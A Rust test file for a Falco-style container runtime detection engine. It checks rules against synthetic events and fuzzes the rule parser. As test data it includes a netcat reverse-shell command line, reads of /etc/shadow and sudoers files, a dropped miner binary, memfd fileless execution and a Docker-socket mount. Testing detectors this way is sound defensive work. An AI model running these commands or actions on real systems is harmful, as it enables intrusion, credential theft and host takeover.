//! A Falco-style rules file evaluated against fake events, plus hostile-input and speed checks.

mod common;

use common::{Ev, hits};
use dockguard_falco::{Field, Priority, Ruleset};
use std::path::Path;

fn rules() -> Ruleset {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/runtime_rules.yaml");
    let (rs, warnings) = Ruleset::load(&[path]).unwrap_or_else(|e| panic!("{e}"));
    let w: Vec<String> = warnings.iter().map(|w| w.to_string()).collect();
    assert_eq!(w.len(), 2, "{w:#?}");
    assert!(w[0].contains("`Packet socket created in container` skipped: field `evt.arg.domain`"));
    assert!(w[1].contains("source `k8s_audit`"));
    rs
}

fn shell() -> Ev {
    Ev::exec("bash")
        .i(Field::ProcTty, 34816)
        .ancestors(&["runc:[1:CHILD]", "containerd-shim"])
        .s(Field::ProcCmdline, "bash")
        .s(Field::ContainerName, "web")
        .s(Field::ContainerImageRepository, "docker.io/library/nginx")
        .i(Field::UserUid, 0)
        .s(Field::UserName, "root")
}

#[test]
fn loads_and_reports() {
    let rs = rules();
    let s = rs.stats();
    assert_eq!(
        (
            s.loaded,
            s.disabled,
            s.skipped_unknown_field,
            s.skipped_source
        ),
        (9, 1, 1, 1)
    );
    assert_eq!(rs.required_engine_versions(), ["0.50.0"]);
    let names: Vec<&str> = rs.rules().iter().map(|r| r.name()).collect();
    assert_eq!(names[0], "Terminal shell in container");
}

#[test]
fn terminal_shell() {
    let rs = rules();
    let ev = shell();
    assert_eq!(hits(&rs, &ev), ["Terminal shell in container"]);
    let rule = rs.matching(&ev).next().unwrap();
    assert_eq!(rule.priority(), Priority::Notice);
    assert_eq!(rule.tags()[0], "maturity_stable");
    let (text, fields) = rule.format(&ev);
    assert!(text.starts_with("A shell was spawned in a container with an attached terminal | evt_type=execve user=root user_uid=0 process=bash parent=runc:[1:CHILD] command=bash terminal=34816 container_id=0123456789ab container_name=web"), "{text}");
    assert_eq!(fields["user.uid"], serde_json::json!(0));
    assert_eq!(fields["container.image.tag"], serde_json::Value::Null);
    // Appended list item; no terminal; parent not a runtime; the tuning macro.
    assert_eq!(
        hits(&rs, &shell().s(Field::ProcName, "fish")),
        ["Terminal shell in container"]
    );
    assert!(hits(&rs, &shell().i(Field::ProcTty, 0)).is_empty());
    assert!(hits(&rs, &shell().ancestors(&["python"])).is_empty());
    assert!(
        hits(
            &rs,
            &shell().s(
                Field::ContainerImageRepository,
                "docker.io/library/debug-tools"
            )
        )
        .is_empty()
    );
    // On the host.
    assert!(hits(&rs, &shell().s(Field::ContainerId, "host")).is_empty());
}

#[test]
fn other_rules() {
    let rs = rules();
    let apt = Ev::exec("apt-get").s(Field::ProcCmdline, "apt-get install nmap");
    assert_eq!(hits(&rs, &apt), ["Package management process in container"]);

    let read = |proc: &str, file: &str| {
        Ev::new()
            .s(Field::EvtType, "openat")
            .s(Field::EvtSource, "syscall")
            .b(Field::EvtIsOpenRead, true)
            .s(Field::FdTypechar, "f")
            .s(Field::FdName, file)
            .s(
                Field::FdDirectory,
                file.rsplit_once('/').map_or("/", |(d, _)| d),
            )
            .s(Field::ProcName, proc)
            .s(Field::ContainerId, "host")
    };
    assert_eq!(
        hits(&rs, &read("cat", "/etc/shadow")),
        ["Read sensitive file untrusted"]
    );
    assert_eq!(
        hits(&rs, &read("cat", "/etc/sudoers.d/x")),
        ["Read sensitive file untrusted"]
    );
    assert!(hits(&rs, &read("sshd", "/etc/shadow")).is_empty());
    assert!(hits(&rs, &read("cat", "/etc/hosts")).is_empty());
    let vault =
        read("vault", "/etc/shadow").s(Field::ContainerImageRepository, "docker.io/library/vault");
    assert!(hits(&rs, &vault).is_empty());

    let nc = Ev::exec("nc").s(Field::ProcCmdline, "nc -e /bin/sh 10.0.0.1 4444");
    assert_eq!(
        hits(&rs, &nc),
        ["Netcat remote code execution in container"]
    );
    assert!(hits(&rs, &Ev::exec("nc").s(Field::ProcCmdline, "nc -z host 80")).is_empty());

    let start = Ev::new()
        .s(Field::EvtType, "container")
        .s(Field::EvtSource, "docker")
        .s(Field::DockerAction, "start")
        .b(Field::ContainerPrivileged, true)
        .mount("/var/run/docker.sock", "/var/run/docker.sock");
    assert_eq!(
        hits(&rs, &start),
        ["Launch privileged container", "Docker socket mounted"]
    );
    let r = rs
        .rules()
        .iter()
        .find(|r| r.name() == "Docker socket mounted")
        .unwrap();
    let (_, fields) = r.format(&start);
    assert_eq!(
        fields["container.mount.dest[/var/run/docker.sock]"],
        serde_json::json!("/var/run/docker.sock")
    );

    let dropped = Ev::exec("xmrig").b(Field::ProcIsExeUpperLayer, true);
    assert_eq!(
        hits(&rs, &dropped),
        ["Drop and execute new binary in container"]
    );
    let memfd = Ev::exec("x")
        .b(Field::ProcIsExeFromMemfd, true)
        .s(Field::ProcExepath, "memfd:evil");
    assert_eq!(hits(&rs, &memfd), ["Fileless execution via memfd_create"]);
    let runc = memfd
        .clone()
        .s(Field::ProcExepath, "memfd:runc_cloned:/proc/self/exe");
    assert!(hits(&rs, &runc).is_empty());
    // The disabled rule never fires.
    assert!(hits(&rs, &Ev::exec("crontab")).is_empty());
}

/// Simple deterministic generator for garbage.
struct Lcg(u64);
impl Lcg {
    fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        self.0 >> 33
    }
}

#[test]
fn garbage_never_panics() {
    let text = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/runtime_rules.yaml"),
    )
    .unwrap();
    let mut rng = Lcg(42);
    // Every truncation of the real file.
    for cut in (0..text.len()).step_by(7) {
        if text.is_char_boundary(cut) {
            let _ = Ruleset::load_str(&[("t.yaml", &text[..cut])]);
        }
    }
    // Random byte edits of the real file.
    let alphabet: &[u8] = b" \n\t-:[]{}(),'\"%&*!|>#abcnotandor=<>.01\\";
    for _ in 0..400 {
        let mut bytes = text.as_bytes().to_vec();
        for _ in 0..1 + rng.next() % 8 {
            let at = (rng.next() as usize) % bytes.len();
            bytes[at] = alphabet[(rng.next() as usize) % alphabet.len()];
        }
        let s = String::from_utf8_lossy(&bytes);
        let _ = Ruleset::load_str(&[("t.yaml", &s)]);
    }
    // Random conditions.
    let words = [
        "proc.name",
        "=",
        "!=",
        "in",
        "(",
        ")",
        ",",
        "and",
        "or",
        "not",
        "bash",
        "\"x",
        "'y'",
        "exists",
        "glob",
        "pmatch",
        "proc.aname[",
        "]",
        "tolower(",
        "val(",
        "m",
        "user.uid",
        "<",
        "1",
        "regex",
        "[",
        "\\",
        "é",
        "contains",
        "intersects",
    ];
    for _ in 0..3000 {
        let n = 1 + rng.next() % 12;
        let cond: Vec<&str> = (0..n)
            .map(|_| words[(rng.next() as usize) % words.len()])
            .collect();
        let yaml = format!(
            "- macro: m\n  condition: proc.name = a\n- rule: R\n  desc: d\n  condition: {:?}\n  output: \"%proc.name %\"\n  priority: INFO\n",
            cond.join(" ")
        );
        if let Ok((rs, _)) = Ruleset::load_str(&[("t.yaml", &yaml)]) {
            let _ = rs.matching(&Ev::exec("bash")).count();
        }
    }
    // Deep nesting and macro blow-up are errors, not stack overflows or hangs.
    let deep = format!(
        "- macro: m\n  condition: {}proc.name = a{}\n",
        "(".repeat(5000),
        ")".repeat(5000)
    );
    assert!(Ruleset::load_str(&[("t.yaml", &deep)]).is_err());
    let mut bomb = String::from("- macro: m0\n  condition: proc.name = a\n");
    for i in 1..40 {
        bomb.push_str(&format!(
            "- macro: m{i}\n  condition: m{} and m{}\n",
            i - 1,
            i - 1
        ));
    }
    bomb.push_str("- rule: R\n  desc: d\n  condition: m39\n  output: o\n  priority: INFO\n");
    let e = Ruleset::load_str(&[("t.yaml", &bomb)]).unwrap_err();
    assert!(e.to_string().contains("expands to more than"), "{e}");
}

#[test]
fn evaluation_speed() {
    // Not a timed assertion: prints events per second for the rules file.
    let rs = rules();
    let events = [
        shell(),
        Ev::exec("ls").s(Field::ProcCmdline, "ls -l"),
        Ev::new()
            .s(Field::EvtType, "openat")
            .s(Field::EvtSource, "syscall")
            .s(Field::FdName, "/etc/hosts"),
        Ev::new()
            .s(Field::EvtType, "clone")
            .s(Field::EvtSource, "syscall"),
    ];
    let n = if cfg!(debug_assertions) {
        20_000
    } else {
        1_000_000
    };
    let start = std::time::Instant::now();
    let mut matched = 0usize;
    for i in 0..n {
        matched += rs.matching(&events[i % events.len()]).count();
    }
    let secs = start.elapsed().as_secs_f64();
    assert_eq!(matched, n / 4);
    eprintln!("{n} events in {secs:.3}s: {:.0} events/s", n as f64 / secs);
}
